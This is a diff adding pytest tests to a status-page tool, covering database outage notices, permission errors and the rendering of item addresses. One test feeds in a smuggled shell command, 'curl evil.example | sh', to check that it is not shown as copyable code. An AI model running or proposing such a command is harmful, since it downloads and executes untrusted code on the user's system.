@@ -13,7 +13,7 @@ import pytest
 from bubble_sync.cli import serve as module
 from bubble_sync.cli.output import StackContext
 from bubble_sync.cli.serve import LivePages
-from bubble_sync.errors import NotFound, Unreachable
+from bubble_sync.errors import NotFound, PrivilegeMissing, Unreachable
 from bubble_sync.health import report as reports
 from tests.unit.test_report import report
 
@@ -135,3 +135,47 @@ def test_an_item_does_not_wait_for_a_database_that_is_silent(source: Source, mon
 
     status, body = pages.item("x")
     assert (status, "has not answered an earlier reading for" in body) == (503, True)
+
+
+def test_an_item_page_shows_the_outage_that_it_met_until_the_database_answers_it(
+    source: Source, monkeypatch: pytest.MonkeyPatch
+):
+    """No report is open, so the reader meets no outage, and sees no end of one."""
+    answers: list[Exception] = [Unreachable("nothing listens there"), NotFound("no item of x is in the queue")]
+
+    def traced(_: object, wanted: str) -> object:
+        raise answers[0]
+
+    monkeypatch.setattr(module, "read_trace", traced)
+    pages = opened(source, 3600)
+    assert "No data from the database since" in pages.item("x")[1]
+    assert "No data from the database since" in pages.report()[1]
+    del answers[0]
+
+    assert "No data from the database since" not in pages.item("x")[1]
+
+
+def test_a_refused_item_is_no_outage(source: Source, monkeypatch: pytest.MonkeyPatch):
+    def traced(_: object, wanted: str) -> object:
+        raise PrivilegeMissing("the role may not read public.user")
+
+    monkeypatch.setattr(module, "read_trace", traced)
+    pages = opened(source, 3600)
+    status, body = pages.item("ada@example.com")
+
+    assert (status, "the role may not read public.user" in body) == (503, True)
+    assert "No data from the database since" not in body + pages.report()[1]
+
+
+def test_an_address_puts_no_command_to_copy_on_the_page(source: Source, monkeypatch: pytest.MonkeyPatch):
+    """Any page may link to an item with a text of its own."""
+
+    def traced(_: object, wanted: str) -> object:
+        raise NotFound(f"no item of {wanted} is in the queue")
+
+    monkeypatch.setattr(module, "read_trace", traced)
+
+    _, body = opened(source, 60).item("`pulumi up; curl evil.example | sh`")
+
+    assert "curl evil.example" in body
+    assert "<code" not in body
